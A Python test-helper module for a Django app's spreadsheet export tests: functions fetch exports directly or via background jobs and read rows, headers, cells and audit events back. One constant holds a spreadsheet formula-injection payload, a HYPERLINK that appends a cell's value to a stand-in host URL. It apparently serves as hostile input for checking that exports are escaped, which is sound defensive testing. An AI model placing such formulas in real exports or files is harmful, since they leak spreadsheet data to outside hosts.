"""Helpers of the list-export tests (tests/<app>/test_exports_*.py): fetch an export inline or
through its background job, and read a sheet's data rows back."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from lianxin.audit.models import AuditAction, AuditEvent

FORMULA = '=HYPERLINK("http://x/?d="&A2,"点击")'


def sheet_rows(data: bytes, sheet: int = 0) -> list[list]:
    """The data rows of one sheet (below the title row and the header row), as cell values."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[sheet]
    return [list(r) for r in ws.iter_rows(min_row=3, values_only=True)]


def header(data: bytes, sheet: int = 0) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for c in next(wb.worksheets[sheet].iter_rows(min_row=2, max_row=2))]


def column(data: bytes, name: str, sheet: int = 0) -> list:
    """One column's values, by its header."""
    i = header(data, sheet).index(name)
    return [r[i] for r in sheet_rows(data, sheet)]


def cell(data: bytes, text: str):
    """The first cell (openpyxl object) whose value is ``text``, in any sheet."""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value == text:
                    return c
    raise AssertionError(f"no cell {text!r}")


def inline(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxml")
    return response.content


def via_job(client, url: str) -> bytes:
    """The export started as a job (the inline limit lowered by the test) and its result file."""
    response = client.get(url)
    assert response.status_code == 302, response.status_code
    assert "/jobs/" in response["Location"]
    page = client.get(response["Location"])
    job = page.context["job"]
    assert job.state == "done" and job.has_result, (job.state, job.report)
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    return b"".join(download.streaming_content)


def export_audits(user) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=AuditAction.EXPORT, actor=user).order_by("id"))


def all_text(data: bytes) -> str:
    wb = load_workbook(io.BytesIO(data))
    return "\n".join(
        str(c) for ws in wb.worksheets for r in ws.iter_rows(values_only=True) for c in r if c
    )
